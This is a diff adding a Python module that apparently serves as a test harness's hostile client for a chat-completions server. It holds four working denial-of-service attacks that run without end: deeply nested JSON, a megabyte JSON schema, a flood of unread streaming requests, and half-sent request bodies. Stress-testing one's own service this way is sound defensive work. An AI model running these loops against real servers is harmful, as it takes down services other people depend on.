@@ -1,0 +1,124 @@
+"""What a hostile client does. Each attack goes on until its process is ended."""
+
+from __future__ import annotations
+
+import contextlib
+import http.client
+import json
+import socket
+import time
+from collections.abc import Callable
+from typing import Any
+from urllib.parse import urlsplit
+
+CHAT = "/v1/chat/completions"
+DEPTH = 10_000
+SCHEMA_BYTES = 1024 * 1024
+NUM_GROUPS = 128
+NUM_SAMPLES = 128
+NUM_HALF_BODIES = 32
+HALF_BYTES = 4 * 1024 * 1024
+PAUSE_S = 0.05
+RECONNECT_S = 1.0
+
+
+class Target:
+    """The server, as the hostile client reaches it."""
+
+    def __init__(self, base_url: str, key: str, model: str) -> None:
+        address = urlsplit(base_url)
+        self._address = (address.hostname or "", address.port or 80)
+        self._key = key
+        self.model = model
+
+    def post(self, body: bytes) -> int:
+        """Send a whole request and read the answer; its status."""
+        with contextlib.closing(http.client.HTTPConnection(*self._address, timeout=60)) as one:
+            headers = {"content-type": "application/json", "authorization": f"Bearer {self._key}"}
+            one.request("POST", CHAT, body, headers)
+            response = one.getresponse()
+            response.read()
+            return response.status
+
+    def open(self, body: bytes, length: int) -> socket.socket:
+        """Send a head that declares ``length`` bytes, and ``body``; leave the answer unread."""
+        connection = socket.create_connection(self._address, timeout=60)
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        head = (
+            f"POST {CHAT} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n"
+            f"authorization: Bearer {self._key}\r\ncontent-length: {length}\r\n\r\n"
+        )
+        connection.sendall(head.encode() + body)
+        return connection
+
+    def chat(self, **fields: Any) -> bytes:
+        """A chat's body."""
+        messages = [{"role": "user", "content": "Repeat exactly: one two three"}]
+        return json.dumps({"model": self.model, "messages": messages} | fields).encode()
+
+
+def deep(target: Target) -> None:
+    """JSON of 10,000 levels, as the body and as a schema."""
+    nested = b'{"a":' * DEPTH + b"1" + b"}" * DEPTH
+    schema = {"type": "json_schema", "json_schema": {"name": "x", "schema": "HERE"}}
+    with_schema = target.chat(response_format=schema).replace(b'"HERE"', nested)
+    with_less = with_schema.replace(nested, b'{"a":' * 500 + b"1" + b"}" * 500)
+    while True:
+        for body in (nested, with_schema, with_less):
+            target.post(body)
+        time.sleep(PAUSE_S)
+
+
+def schema(target: Target) -> None:
+    """A JSON schema of a megabyte."""
+    one = {"type": "string", "pattern": "^[a-z]{1,40}$", "maxLength": 40}
+    size = len(json.dumps(one)) + 12
+    properties = {f"p{number:06}": one for number in range(SCHEMA_BYTES // size)}
+    big = {"type": "object", "properties": properties, "required": list(properties)}
+    wanted = {"type": "json_schema", "json_schema": {"name": "x", "schema": big, "strict": True}}
+    body = target.chat(response_format=wanted, max_tokens=64)
+    while True:
+        target.post(body)
+        time.sleep(PAUSE_S)
+
+
+def flood(target: Target) -> None:
+    """128 requests of 128 samples each, whose streams nobody reads."""
+    body = target.chat(n=NUM_SAMPLES, stream=True, ignore_eos=True, max_tokens=2000, logprobs=True)
+    while True:
+        held = []
+        for _ in range(NUM_GROUPS):
+            with contextlib.suppress(OSError):
+                held.append(target.open(body, len(body)))
+        time.sleep(RECONNECT_S)
+        for connection in held[NUM_GROUPS // 2 :]:
+            connection.close()
+        time.sleep(RECONNECT_S)
+
+
+def half(target: Target) -> None:
+    """Bodies of which the second half never comes."""
+    held: list[socket.socket] = []
+    while True:
+        for _ in range(NUM_HALF_BODIES):
+            with contextlib.suppress(OSError):
+                held.append(target.open(b" " * HALF_BYTES, 2 * HALF_BYTES))
+        time.sleep(RECONNECT_S)
+        held = held[-4 * NUM_HALF_BODIES :]
+
+
+ATTACKS: dict[str, Callable[[Target], None]] = {
+    "schema": schema,
+    "deep": deep,
+    "flood": flood,
+    "half": half,
+}
+
+
+def attack_for(name: str, base_url: str, key: str, model: str) -> None:
+    """Run one attack for ever; what the server does to it is not its business."""
+    target = Target(base_url, key, model)
+    while True:
+        with contextlib.suppress(OSError, http.client.HTTPException):
+            ATTACKS[name](target)
+        time.sleep(PAUSE_S)
